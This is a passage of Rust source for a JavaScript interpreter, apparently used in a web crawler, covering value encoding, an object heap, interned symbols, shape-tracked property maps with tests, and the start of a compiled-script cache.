    #[inline(always)]
    pub(crate) fn as_num(self) -> f64 {
        f64::from_bits(self.0)
    }

    /// The tag of a non-number word (only meaningful when `!is_num()`).
    #[inline(always)]
    pub(crate) fn tag(self) -> u64 {
        (self.0 >> TAG_SHIFT) & 0xF
    }

    /// The 32-bit payload of a tagged word.
    #[inline(always)]
    pub(crate) fn payload(self) -> u32 {
        self.0 as u32
    }
}

/// Converts a number to its display string, approximating JS `ToString`.
pub fn number_to_string(n: f64) -> String {
    if n.is_nan() {
        "NaN".to_string()
    } else if n.is_infinite() {
        if n > 0.0 {
            "Infinity".to_string()
        } else {
            "-Infinity".to_string()
        }
    } else if n == 0.0 {
        "0".to_string()
    } else if n.fract() == 0.0 && n.abs() < 1e21 {
        format!("{}", n as i64)
    } else {
        let s = format!("{n}");
        s
    }
}

/// The kind of heap object.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ObjKind {
    /// Plain object.
    Plain,
    /// Array: `elements` holds the indexed values.
    Array,
    /// A host (native) object: property reads/writes may be intercepted by
    /// the embedder's [`crate::interp::Host`]. The tag names the object
    /// (`"document"`, `"location"`, …).
    Native,
}

/// Data of one heap object.
#[derive(Debug, Clone)]
pub struct ObjData {
    /// Kind discriminator.
    pub kind: ObjKind,
    /// Named properties: insertion-ordered with stable entry indices (the
    /// VM's inline caches index into this). Enumeration sites sort keys so
    /// `for..in` order stays deterministic and engine-independent.
    pub props: NameMap,
    /// Array elements (only for [`ObjKind::Array`]).
    pub elements: Vec<Value>,
    /// Host tag for [`ObjKind::Native`] objects (empty otherwise).
    pub tag: String,
}

/// The object heap. Objects are never freed during a script run — a run is
/// bounded by the step budget, so peak memory is bounded too. `Clone` is
/// used to stamp fresh interpreters from a pre-built stdlib template.
#[derive(Debug, Clone, Default)]
pub struct Heap {
    objs: Vec<ObjData>,
}

impl Heap {
    /// Creates an empty heap.
    pub fn new() -> Self {
        Self::default()
    }

    /// Allocates a plain object.
    pub fn alloc_object(&mut self) -> ObjId {
        self.alloc(ObjData {
            kind: ObjKind::Plain,
            props: NameMap::new(),
            elements: Vec::new(),
            tag: String::new(),
        })
    }

    /// Allocates an array with the given elements.
    pub fn alloc_array(&mut self, elements: Vec<Value>) -> ObjId {
        self.alloc(ObjData {
            kind: ObjKind::Array,
            props: NameMap::new(),
            elements,
            tag: String::new(),
        })
    }

    /// Allocates a native (host) object with the given tag.
    pub fn alloc_native(&mut self, tag: &str) -> ObjId {
        self.alloc(ObjData {
            kind: ObjKind::Native,
            props: NameMap::new(),
            elements: Vec::new(),
            tag: tag.to_string(),
        })
    }

    fn alloc(&mut self, data: ObjData) -> ObjId {
        let id = ObjId(self.objs.len());
        self.objs.push(data);
        id
    }

    /// Borrows an object.
    pub fn get(&self, id: ObjId) -> &ObjData {
        &self.objs[id.0]
    }

    /// Mutably borrows an object.
    pub fn get_mut(&mut self, id: ObjId) -> &mut ObjData {
        &mut self.objs[id.0]
    }

    /// Number of live objects.
    pub fn len(&self) -> usize {
        self.objs.len()
    }

    /// True when no objects have been allocated.
    pub fn is_empty(&self) -> bool {
        self.objs.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truthiness() {
        assert!(!Value::Undefined.truthy());
        assert!(!Value::Null.truthy());
        assert!(!Value::Bool(false).truthy());
        assert!(Value::Bool(true).truthy());
        assert!(!Value::Num(0.0).truthy());
        assert!(!Value::Num(f64::NAN).truthy());
        assert!(Value::Num(-1.0).truthy());
        assert!(!Value::str("").truthy());
        assert!(Value::str("x").truthy());
    }

    #[test]
    fn type_of_strings() {
        assert_eq!(Value::Undefined.type_of(), "undefined");
        assert_eq!(Value::Null.type_of(), "object");
        assert_eq!(Value::Num(1.0).type_of(), "number");
        assert_eq!(Value::str("s").type_of(), "string");
        assert_eq!(Value::native("f").type_of(), "function");
    }

    #[test]
    fn to_number_coercions() {
        assert_eq!(Value::Null.to_number(), 0.0);
        assert!(Value::Undefined.to_number().is_nan());
        assert_eq!(Value::Bool(true).to_number(), 1.0);
        assert_eq!(Value::str("42").to_number(), 42.0);
        assert_eq!(Value::str("  3.5 ").to_number(), 3.5);
        assert_eq!(Value::str("").to_number(), 0.0);
        assert_eq!(Value::str("0x10").to_number(), 16.0);
        assert!(Value::str("abc").to_number().is_nan());
    }

    #[test]
    fn number_to_string_forms() {
        assert_eq!(number_to_string(42.0), "42");
        assert_eq!(number_to_string(-7.0), "-7");
        assert_eq!(number_to_string(0.5), "0.5");
        assert_eq!(number_to_string(0.0), "0");
        assert_eq!(number_to_string(f64::NAN), "NaN");
        assert_eq!(number_to_string(f64::INFINITY), "Infinity");
    }

    #[test]
    fn strict_eq_rules() {
        assert!(Value::Num(1.0).strict_eq(&Value::Num(1.0)));
        assert!(!Value::Num(1.0).strict_eq(&Value::str("1")));
        assert!(!Value::Null.strict_eq(&Value::Undefined));
        assert!(Value::str("a").strict_eq(&Value::str("a")));
        assert!(!Value::Num(f64::NAN).strict_eq(&Value::Num(f64::NAN)));
        // Native identity is an interned-pointer compare.
        assert!(Value::native("std:eval").strict_eq(&Value::native("std:eval")));
        assert!(!Value::native("std:eval").strict_eq(&Value::native("std:other")));
    }

    #[test]
    fn word_round_trips_numbers_and_singletons() {
        for n in [0.0, -0.0, 1.5, -7.25, 1e300, -1e-300, f64::INFINITY, f64::NEG_INFINITY] {
            let w = Word::num(n);
            assert!(w.is_num(), "{n} must stay an inline number");
            assert_eq!(w.as_num().to_bits(), n.to_bits());
        }
        // Every NaN input canonicalizes to one inline NaN — including bit
        // patterns with tag-space bits set, which must not leak into tags.
        for bits in [f64::NAN.to_bits(), 0xFFF8_0000_0000_0001, 0x7FFC_0000_0000_0005] {
            let w = Word::num(f64::from_bits(bits));
            assert!(w.is_num());
            assert!(w.as_num().is_nan());
        }
        for (w, tag) in [
            (Word::UNDEF, TAG_UNDEF),
            (Word::NULL, TAG_NULL),
            (Word::FALSE, TAG_FALSE),
            (Word::TRUE, TAG_TRUE),
        ] {
            assert!(!w.is_num());
            assert_eq!(w.tag(), tag);
        }
        assert_eq!(Word::bool(true), Word::TRUE);
        assert_eq!(Word::bool(false), Word::FALSE);
    }

    #[test]
    fn word_payloads_round_trip() {
        let w = Word::obj(ObjId(12345));
        assert!(!w.is_num());
        assert_eq!(w.tag(), TAG_OBJ);
        assert_eq!(w.payload(), 12345);
        let c = Word::cnst(7);
        assert_eq!((c.tag(), c.payload()), (TAG_CONST, 7));
        let b = Word::boxed(u32::MAX);
        assert_eq!((b.tag(), b.payload()), (TAG_BOXED, u32::MAX));
        assert_ne!(c, b);
    }

    #[test]
    fn heap_alloc_and_access() {
        let mut heap = Heap::new();
        let o = heap.alloc_object();
        heap.get_mut(o).props.insert("x", Value::Num(1.0));
        assert!(matches!(heap.get(o).props.get("x"), Some(Value::Num(n)) if *n == 1.0));
        let a = heap.alloc_array(vec![Value::Num(1.0), Value::Num(2.0)]);
        assert_eq!(heap.get(a).elements.len(), 2);
        assert_eq!(heap.get(a).kind, ObjKind::Array);
        let n = heap.alloc_native("document");
        assert_eq!(heap.get(n).tag, "document");
        assert_eq!(heap.len(), 3);
    }
}
