//! Data-oriented value storage: interned native-function symbols and
//! insertion-ordered property maps.
//!
//! Two structures back the bytecode VM's heap layout (and speed up the
//! tree-walk engine for free):
//!
//! * [`Sym`] — an interned string. Every distinct content is leaked exactly
//!   once into a process-global table, so two `Sym`s are equal iff their
//!   pointers are equal: native-function identity checks become integer
//!   compares instead of byte-by-byte string compares. The set of interned
//!   names is small and fixed (stdlib builtins plus the browser host's
//!   surface), so the leak is bounded.
//! * [`NameMap`] — the property storage of heap objects and the by-name
//!   storage of environments. Entries keep insertion order in a `Vec`
//!   (stable indices, which is what makes monomorphic inline caches sound:
//!   an entry, once inserted, never moves) with a `HashMap` index for
//!   by-name probes. Enumeration order differs from the old `BTreeMap`, so
//!   `for..in` sites sort keys before iterating to keep observable
//!   enumeration identical.
//! * [`ShapeId`] — a hidden-class handle. Every `NameMap` carries the shape
//!   describing its exact key-insertion sequence, maintained through a
//!   thread-local interned transition tree: two maps share a shape iff they
//!   inserted the same keys in the same order, which means they have
//!   identical layouts and an entry index valid for one is valid for the
//!   other. The VM's property caches key on `(shape, index)` instead of a
//!   single receiver identity, so a site stays monomorphic across any
//!   number of same-layout objects without ever probing the `HashMap`
//!   index (which remains the slow path and the enumeration source).

use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use std::sync::{Mutex, OnceLock};

/// An interned string with pointer-equality semantics.
///
/// Obtain one via [`Sym::intern`]; the interner guarantees one `'static`
/// allocation per distinct content, so `==` (a fat-pointer compare) agrees
/// exactly with content equality.
#[derive(Clone, Copy)]
pub struct Sym(&'static str);

impl Sym {
    /// Interns `s`, returning the canonical symbol for its content.
    pub fn intern(s: &str) -> Sym {
        static TABLE: OnceLock<Mutex<HashSet<&'static str>>> = OnceLock::new();
        let table = TABLE.get_or_init(|| Mutex::new(HashSet::new()));
        let mut t = match table.lock() {
            Ok(g) => g,
            // Inserts are atomic from the table's perspective; a poisoned
            // lock still guards a fully-consistent set.
            Err(poisoned) => poisoned.into_inner(),
        };
        if let Some(&hit) = t.get(s) {
            return Sym(hit);
        }
        let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
        t.insert(leaked);
        Sym(leaked)
    }

    /// The symbol's content. Free — no lock, no lookup.
    pub fn as_str(&self) -> &'static str {
        self.0
    }
}

impl PartialEq for Sym {
    fn eq(&self, other: &Sym) -> bool {
        // One allocation per content makes the pointer compare exact.
        std::ptr::eq(self.0, other.0)
    }
}

impl Eq for Sym {}

impl std::hash::Hash for Sym {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        (self.0.as_ptr() as usize).hash(state);
    }
}

impl std::fmt::Debug for Sym {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:?}", self.0)
    }
}

impl std::fmt::Display for Sym {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.0)
    }
}

/// A hidden-class handle: identifies one node of the thread-local shape
/// transition tree, i.e. one exact key-insertion sequence.
///
/// Two [`NameMap`]s with equal shapes have byte-for-byte identical layouts:
/// the same keys at the same stable entry indices. The default value is the
/// root shape (the empty layout).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct ShapeId(u32);

/// One node of the shape tree: the key whose append produced this shape,
/// the parent it was appended to, and the interned child transitions.
struct ShapeInfo {
    key: Rc<str>,
    // Read by `shape_keys` (test/diagnostic layout reconstruction) only.
    #[cfg_attr(not(test), allow(dead_code))]
    parent: ShapeId,
    children: HashMap<Rc<str>, u32>,
}

thread_local! {
    /// The interned shape transition tree. Thread-local because shapes
    /// carry `Rc<str>` keys; interpreters are `!Send`, so a shape id never
    /// crosses threads. Append-only and interned like [`Sym`]: growth is
    /// bounded by the number of distinct `(parent, key)` transitions the
    /// thread ever observes, not by the number of objects.
    static SHAPES: RefCell<Vec<ShapeInfo>> = RefCell::new(vec![ShapeInfo {
        key: Rc::from(""),
        parent: ShapeId(0),
        children: HashMap::new(),
    }]);
}

/// The shape reached by appending `key` to a map of shape `from`,
/// interning a new tree node on first use of this transition.
pub(crate) fn shape_advance(from: ShapeId, key: &str) -> ShapeId {
    SHAPES.with(|shapes| {
        let mut shapes = shapes.borrow_mut();
        if let Some(&to) = shapes[from.0 as usize].children.get(key) {
            return ShapeId(to);
        }
        let to = shapes.len() as u32;
        let rc: Rc<str> = Rc::from(key);
        shapes.push(ShapeInfo {
            key: rc.clone(),
            parent: from,
            children: HashMap::new(),
        });
        shapes[from.0 as usize].children.insert(rc, to);
        ShapeId(to)
    })
}

/// The key whose append produced `shape` (the last key of its layout).
/// The root shape yields the empty key.
pub(crate) fn shape_key(shape: ShapeId) -> Rc<str> {
    SHAPES.with(|shapes| shapes.borrow()[shape.0 as usize].key.clone())
}

/// The full key sequence `shape` stands for, in insertion order — the
/// layout every map carrying this shape has. Test/diagnostic helper.
#[cfg(test)]
pub(crate) fn shape_keys(shape: ShapeId) -> Vec<Rc<str>> {
    SHAPES.with(|shapes| {
        let shapes = shapes.borrow();
        let mut keys = Vec::new();
        let mut cur = shape;
        while cur != ShapeId(0) {
            let info = &shapes[cur.0 as usize];
            keys.push(info.key.clone());
            cur = info.parent;
        }
        keys.reverse();
        keys
    })
}

/// An insertion-ordered string→value map with stable entry indices.
///
/// `insert` either updates an existing entry in place or appends; entries
/// are never removed, so an index handed out by [`NameMap::get_full`] stays
/// valid (and keeps naming the same key) for the map's whole life — the
/// invariant the VM's inline caches rely on. Every append also advances the
/// map's [`ShapeId`] through the interned transition tree, so equal shapes
/// certify equal layouts.
#[derive(Debug, Clone, Default)]
pub struct NameMap {
    entries: Vec<(Rc<str>, crate::value::Value)>,
    index: HashMap<Rc<str>, u32>,
    shape: ShapeId,
}

impl NameMap {
    /// An empty map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the map has no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Borrow the value stored under `key`.
    pub fn get(&self, key: &str) -> Option<&crate::value::Value> {
        self.index.get(key).map(|&i| &self.entries[i as usize].1)
    }

    /// Borrow the value and its stable entry index.
    pub fn get_full(&self, key: &str) -> Option<(u32, &crate::value::Value)> {
        self.index
            .get(key)
            .map(|&i| (i, &self.entries[i as usize].1))
    }

    /// Whether `key` is present.
    pub fn contains_key(&self, key: &str) -> bool {
        self.index.contains_key(key)
    }

    /// Inserts or updates `key`. Existing entries keep their index.
    pub fn insert(&mut self, key: impl AsRef<str>, value: crate::value::Value) {
        self.insert_full(key, value);
    }

    /// Inserts or updates `key`, returning the entry's stable index.
    pub fn insert_full(&mut self, key: impl AsRef<str>, value: crate::value::Value) -> u32 {
        let key = key.as_ref();
        match self.index.get(key) {
            Some(&i) => {
                self.entries[i as usize].1 = value;
                i
            }
            None => {
                let i = self.entries.len() as u32;
                let rc: Rc<str> = Rc::from(key);
                self.index.insert(rc.clone(), i);
                self.entries.push((rc, value));
                self.shape = shape_advance(self.shape, key);
                i
            }
        }
    }

    /// The map's current shape: a certificate of its exact key layout.
    pub(crate) fn shape(&self) -> ShapeId {
        self.shape
    }

    /// Appends a key this map is known not to contain, moving the map to
    /// the pre-computed shape `to` — the VM's shape-transition fast path,
    /// skipping both the existence probe and the transition-tree walk.
    /// Caller invariant: the map's shape is `to`'s parent and `key` is the
    /// key that transition appends (a shape-checked IC hit proves both).
    pub(crate) fn append_known(&mut self, key: Rc<str>, value: crate::value::Value, to: ShapeId) {
        let i = self.entries.len() as u32;
        self.index.insert(key.clone(), i);
        self.entries.push((key, value));
        self.shape = to;
    }

    /// Empties the map back to the root shape, keeping allocated capacity —
    /// used when recycling environment frames.
    pub(crate) fn clear(&mut self) {
        self.entries.clear();
        self.index.clear();
        self.shape = ShapeId::default();
    }

    /// The entry at a stable index (panics when out of range).
    pub fn entry_at(&self, idx: u32) -> (&Rc<str>, &crate::value::Value) {
        let (k, v) = &self.entries[idx as usize];
        (k, v)
    }

    /// Overwrites the value at a stable index (panics when out of range).
    pub fn set_at(&mut self, idx: u32, value: crate::value::Value) {
        self.entries[idx as usize].1 = value;
    }

    /// Keys in insertion order.
    pub fn keys(&self) -> impl Iterator<Item = &Rc<str>> {
        self.entries.iter().map(|(k, _)| k)
    }

    /// `(key, value)` pairs in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (&Rc<str>, &crate::value::Value)> {
        self.entries.iter().map(|(k, v)| (k, v))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::value::Value;

    #[test]
    fn interned_symbols_are_pointer_equal() {
        let a = Sym::intern("std:str:charCodeAt");
        let b = Sym::intern("std:str:charCodeAt");
        assert_eq!(a, b);
        assert!(std::ptr::eq(a.as_str(), b.as_str()));
        let c = Sym::intern("std:str:charAt");
        assert_ne!(a, c);
        assert_eq!(a.as_str(), "std:str:charCodeAt");
    }

    #[test]
    fn interning_is_stable_across_threads() {
        let a = Sym::intern("cross-thread-sym");
        let b = std::thread::spawn(|| Sym::intern("cross-thread-sym"))
            .join()
            .unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn duplicate_name_insert_updates_in_place_and_keeps_shape() {
        let mut m = NameMap::new();
        m.insert("k", Value::Num(1.0));
        let shape_after_first = m.shape();
        assert_ne!(shape_after_first, ShapeId::default());
        // Re-inserting an existing key is an update, not an append: length,
        // index, and shape are all unchanged.
        m.insert("k", Value::Num(2.0));
        m.insert("k", Value::str("three"));
        assert_eq!(m.len(), 1);
        assert_eq!(m.shape(), shape_after_first);
        let (idx, v) = m.get_full("k").unwrap();
        assert_eq!(idx, 0);
        assert!(matches!(v, Value::Str(s) if &**s == "three"));
        let keys: Vec<&str> = m.keys().map(|k| k.as_ref()).collect();
        assert_eq!(keys, vec!["k"]);
    }

    #[test]
    fn get_full_indices_survive_growth() {
        let mut m = NameMap::new();
        let mut handed_out = Vec::new();
        for i in 0..64 {
            let key = format!("k{i}");
            m.insert(&key, Value::Num(i as f64));
            let (idx, _) = m.get_full(&key).unwrap();
            handed_out.push((key, idx));
            // Every index handed out earlier must still name its key even
            // as the map grows past HashMap resize boundaries.
            for (k, idx) in &handed_out {
                let (now, v) = m.get_full(k).unwrap();
                assert_eq!(now, *idx, "index for {k} moved");
                let (entry_key, entry_v) = m.entry_at(*idx);
                assert_eq!(&**entry_key, k.as_str());
                assert!(matches!((v, entry_v), (Value::Num(a), Value::Num(b)) if a == b));
            }
        }
    }

    #[test]
    fn shapes_intern_by_insertion_order() {
        let mut a = NameMap::new();
        let mut b = NameMap::new();
        let mut c = NameMap::new();
        for key in ["x", "y", "z"] {
            a.insert(key, Value::Num(1.0));
            b.insert(key, Value::Num(2.0));
        }
        for key in ["y", "x", "z"] {
            c.insert(key, Value::Num(3.0));
        }
        // Same key sequence → same interned shape; different order →
        // different shape, even with an equal final key set.
        assert_eq!(a.shape(), b.shape());
        assert_ne!(a.shape(), c.shape());
        let layout: Vec<String> = shape_keys(a.shape()).iter().map(|k| k.to_string()).collect();
        assert_eq!(layout, vec!["x", "y", "z"]);
    }

    #[test]
    fn append_known_matches_insert_full() {
        let mut slow = NameMap::new();
        slow.insert("p", Value::Num(1.0));
        slow.insert("q", Value::Num(2.0));
        let mut fast = NameMap::new();
        fast.insert("p", Value::Num(1.0));
        // Take the q-transition the slow map discovered, via the fast path.
        let to = slow.shape();
        fast.append_known(shape_key(to), Value::Num(2.0), to);
        assert_eq!(fast.shape(), slow.shape());
        let (fi, fv) = fast.get_full("q").unwrap();
        let (si, sv) = slow.get_full("q").unwrap();
        assert_eq!(fi, si);
        assert!(fv.strict_eq(sv));
        let keys: Vec<&str> = fast.keys().map(|k| k.as_ref()).collect();
        assert_eq!(keys, vec!["p", "q"]);
    }

    #[test]
    fn clear_resets_to_root_shape() {
        let mut m = NameMap::new();
        m.insert("a", Value::Num(1.0));
        m.insert("b", Value::Num(2.0));
        m.clear();
        assert!(m.is_empty());
        assert_eq!(m.shape(), ShapeId::default());
        assert!(m.get("a").is_none());
        // Refilling after a clear rebuilds the same interned shapes.
        m.insert("a", Value::Num(3.0));
        let mut fresh = NameMap::new();
        fresh.insert("a", Value::Num(3.0));
        assert_eq!(m.shape(), fresh.shape());
    }

    #[test]
    fn name_map_keeps_stable_indices() {
        let mut m = NameMap::new();
        m.insert("b", Value::Num(1.0));
        m.insert("a", Value::Num(2.0));
        let (bi, _) = m.get_full("b").unwrap();
        assert_eq!(bi, 0);
        // Updating in place keeps the index.
        m.insert("b", Value::Num(9.0));
        let (bi2, v) = m.get_full("b").unwrap();
        assert_eq!(bi2, 0);
        assert!(matches!(v, Value::Num(n) if *n == 9.0));
        assert_eq!(m.len(), 2);
        // Insertion order is preserved for enumeration.
        let keys: Vec<&str> = m.keys().map(|k| k.as_ref()).collect();
        assert_eq!(keys, vec!["b", "a"]);
        m.set_at(1, Value::Num(7.0));
        assert!(matches!(m.get("a"), Some(Value::Num(n)) if *n == 7.0));
    }

    mod shape_consistency {
        use super::*;
        use proptest::prelude::*;

        proptest! {
            /// For any insert sequence (duplicates included), the shape path
            /// — decode the layout from the shape tree, index `entry_at` —
            /// and the `NameMap` hash-probe path must agree on every key,
            /// index, and value. This is the soundness contract behind the
            /// VM's `(shape, index)` property caches.
            #[test]
            fn shape_path_and_name_map_path_reads_agree(
                ops in proptest::collection::vec((0usize..8, -100i64..100), 1..64)
            ) {
                let keys = ["a", "b", "c", "d", "e", "f", "gg", "hhh"];
                let mut m = NameMap::new();
                for (k, v) in &ops {
                    m.insert(keys[*k], Value::Num(*v as f64));
                }
                let layout = shape_keys(m.shape());
                prop_assert_eq!(layout.len(), m.len());
                for (idx, key) in layout.iter().enumerate() {
                    let (entry_key, shape_val) = m.entry_at(idx as u32);
                    prop_assert_eq!(&**entry_key, &**key);
                    let (map_idx, map_val) = m.get_full(key).unwrap();
                    prop_assert_eq!(map_idx as usize, idx);
                    prop_assert!(shape_val.strict_eq(map_val));
                }
            }
        }
    }
}
