//! Data-oriented value storage: interned native-function symbols and
//! insertion-ordered property maps.
//!
//! Two structures back the bytecode VM's heap layout (and speed up the
//! tree-walk engine for free):
//!
//! * [`Sym`] — an interned string. Every distinct content is leaked exactly
//!   once into a process-global table, so two `Sym`s are equal iff their
//!   pointers are equal: native-function identity checks become integer
//!   compares instead of byte-by-byte string compares. The set of interned
//!   names is small and fixed (stdlib builtins plus the browser host's
//!   surface), so the leak is bounded.
//! * [`NameMap`] — the property storage of heap objects and the by-name
//!   storage of environments. Entries keep insertion order in a `Vec`
//!   (stable indices, which is what makes monomorphic inline caches sound:
//!   an entry, once inserted, never moves) with a `HashMap` index for
//!   by-name probes. Enumeration order differs from the old `BTreeMap`, so
//!   `for..in` sites sort keys before iterating to keep observable
//!   enumeration identical.

use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use std::sync::{Mutex, OnceLock};

/// An interned string with pointer-equality semantics.
///
/// Obtain one via [`Sym::intern`]; the interner guarantees one `'static`
/// allocation per distinct content, so `==` (a fat-pointer compare) agrees
/// exactly with content equality.
#[derive(Clone, Copy)]
pub struct Sym(&'static str);

impl Sym {
    /// Interns `s`, returning the canonical symbol for its content.
    pub fn intern(s: &str) -> Sym {
        static TABLE: OnceLock<Mutex<HashSet<&'static str>>> = OnceLock::new();
        let table = TABLE.get_or_init(|| Mutex::new(HashSet::new()));
        let mut t = match table.lock() {
            Ok(g) => g,
            // Inserts are atomic from the table's perspective; a poisoned
            // lock still guards a fully-consistent set.
            Err(poisoned) => poisoned.into_inner(),
        };
        if let Some(&hit) = t.get(s) {
            return Sym(hit);
        }
        let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
        t.insert(leaked);
        Sym(leaked)
    }

    /// The symbol's content. Free — no lock, no lookup.
    pub fn as_str(&self) -> &'static str {
        self.0
    }
}

impl PartialEq for Sym {
    fn eq(&self, other: &Sym) -> bool {
        // One allocation per content makes the pointer compare exact.
        std::ptr::eq(self.0, other.0)
    }
}

impl Eq for Sym {}

impl std::hash::Hash for Sym {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        (self.0.as_ptr() as usize).hash(state);
    }
}

impl std::fmt::Debug for Sym {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:?}", self.0)
    }
}

impl std::fmt::Display for Sym {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.0)
    }
}

/// An insertion-ordered string→value map with stable entry indices.
///
/// `insert` either updates an existing entry in place or appends; entries
/// are never removed, so an index handed out by [`NameMap::get_full`] stays
/// valid (and keeps naming the same key) for the map's whole life — the
/// invariant the VM's inline caches rely on.
#[derive(Debug, Clone, Default)]
pub struct NameMap {
    entries: Vec<(Rc<str>, crate::value::Value)>,
    index: HashMap<Rc<str>, u32>,
}

impl NameMap {
    /// An empty map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the map has no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Borrow the value stored under `key`.
    pub fn get(&self, key: &str) -> Option<&crate::value::Value> {
        self.index.get(key).map(|&i| &self.entries[i as usize].1)
    }

    /// Borrow the value and its stable entry index.
    pub fn get_full(&self, key: &str) -> Option<(u32, &crate::value::Value)> {
        self.index
            .get(key)
            .map(|&i| (i, &self.entries[i as usize].1))
    }

    /// Whether `key` is present.
    pub fn contains_key(&self, key: &str) -> bool {
        self.index.contains_key(key)
    }

    /// Inserts or updates `key`. Existing entries keep their index.
    pub fn insert(&mut self, key: impl AsRef<str>, value: crate::value::Value) {
        self.insert_full(key, value);
    }

    /// Inserts or updates `key`, returning the entry's stable index.
    pub fn insert_full(&mut self, key: impl AsRef<str>, value: crate::value::Value) -> u32 {
        let key = key.as_ref();
        match self.index.get(key) {
            Some(&i) => {
                self.entries[i as usize].1 = value;
                i
            }
            None => {
                let i = self.entries.len() as u32;
                let rc: Rc<str> = Rc::from(key);
                self.index.insert(rc.clone(), i);
                self.entries.push((rc, value));
                i
            }
        }
    }

    /// The entry at a stable index (panics when out of range).
    pub fn entry_at(&self, idx: u32) -> (&Rc<str>, &crate::value::Value) {
        let (k, v) = &self.entries[idx as usize];
        (k, v)
    }

    /// Overwrites the value at a stable index (panics when out of range).
    pub fn set_at(&mut self, idx: u32, value: crate::value::Value) {
        self.entries[idx as usize].1 = value;
    }

    /// Keys in insertion order.
    pub fn keys(&self) -> impl Iterator<Item = &Rc<str>> {
        self.entries.iter().map(|(k, _)| k)
    }

    /// `(key, value)` pairs in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (&Rc<str>, &crate::value::Value)> {
        self.entries.iter().map(|(k, v)| (k, v))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::value::Value;

    #[test]
    fn interned_symbols_are_pointer_equal() {
        let a = Sym::intern("std:str:charCodeAt");
        let b = Sym::intern("std:str:charCodeAt");
        assert_eq!(a, b);
        assert!(std::ptr::eq(a.as_str(), b.as_str()));
        let c = Sym::intern("std:str:charAt");
        assert_ne!(a, c);
        assert_eq!(a.as_str(), "std:str:charCodeAt");
    }

    #[test]
    fn interning_is_stable_across_threads() {
        let a = Sym::intern("cross-thread-sym");
        let b = std::thread::spawn(|| Sym::intern("cross-thread-sym"))
            .join()
            .unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn name_map_keeps_stable_indices() {
        let mut m = NameMap::new();
        m.insert("b", Value::Num(1.0));
        m.insert("a", Value::Num(2.0));
        let (bi, _) = m.get_full("b").unwrap();
        assert_eq!(bi, 0);
        // Updating in place keeps the index.
        m.insert("b", Value::Num(9.0));
        let (bi2, v) = m.get_full("b").unwrap();
        assert_eq!(bi2, 0);
        assert!(matches!(v, Value::Num(n) if *n == 9.0));
        assert_eq!(m.len(), 2);
        // Insertion order is preserved for enumeration.
        let keys: Vec<&str> = m.keys().map(|k| k.as_ref()).collect();
        assert_eq!(keys, vec!["b", "a"]);
        m.set_at(1, Value::Num(7.0));
        assert!(matches!(m.get("a"), Some(Value::Num(n)) if *n == 7.0));
    }
}
