//! Script compilation cache: compile once, execute everywhere.
//!
//! The crawl executes the same creatives and publisher templates thousands
//! of times, and obfuscated creatives `eval` the same payload strings over
//! and over. [`CompiledScript`] splits compilation (lex + parse + resolve)
//! from execution, and [`ScriptCache`] keys compiled programs by a content
//! hash of the source so repeat visits skip the front end entirely.
//!
//! ## Determinism contract
//!
//! A cache hit returns a [`CompiledScript`] only when the stored source is
//! **byte-identical** to the requested source (the hash merely routes to a
//! bucket; a collision falls back to an uncached compile). Compilation is a
//! pure function of the source bytes, and execution is a pure function of
//! the program plus interpreter state — so a hit can never change what a
//! script computes, only how fast it starts. The *split* of hits vs misses
//! depends on how the scheduler dealt visits to worker threads; the
//! deterministic quantities are the total lookup count and the number of
//! compile units executed ([`crate::Interpreter::script_units`]). The
//! metrics layer strips the scheduling-dependent split from deterministic
//! residues, mirroring the crawler's filter-memo counters.
//!
//! Parse failures are never cached: each failing compile recounts as a
//! miss, keeping the failure tally a pure function of the workload.

use crate::ast::Program;
use crate::bytecode::Chunk;
use crate::parser::parse_program;
use crate::ScriptError;
use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};

/// A parsed, resolved program plus the identity of the source it came from.
///
/// Cheap to clone (`Arc` bumps) and `Send + Sync`, so one compilation can
/// be executed concurrently by every crawler worker. The bytecode lowering
/// is lazy and shared: the first VM execution populates `vm`, and every
/// clone — including cache hits on other workers — reuses that chunk.
#[derive(Debug, Clone)]
pub struct CompiledScript {
    id: u64,
    source: Arc<str>,
    program: Arc<Program>,
    vm: Arc<OnceLock<Arc<Chunk>>>,
}

impl CompiledScript {
    /// Compiles `src` (lex + parse + resolve) without consulting any cache.
    pub fn compile(src: &str) -> Result<CompiledScript, ScriptError> {
        let program = parse_program(src)?;
        Ok(CompiledScript {
            id: content_hash(src),
            source: Arc::from(src),
            program: Arc::new(program),
            vm: Arc::new(OnceLock::new()),
        })
    }

    /// Content-hash identity of the source (FNV-1a 64).
    pub fn id(&self) -> u64 {
        self.id
    }

    /// The exact source this program was compiled from.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// The compiled program.
    pub fn program(&self) -> &Program {
        &self.program
    }

    /// The program body lowered to bytecode, compiling on first use.
    /// Lowering is a pure function of the (already-resolved) program, so
    /// racing initializers produce identical chunks.
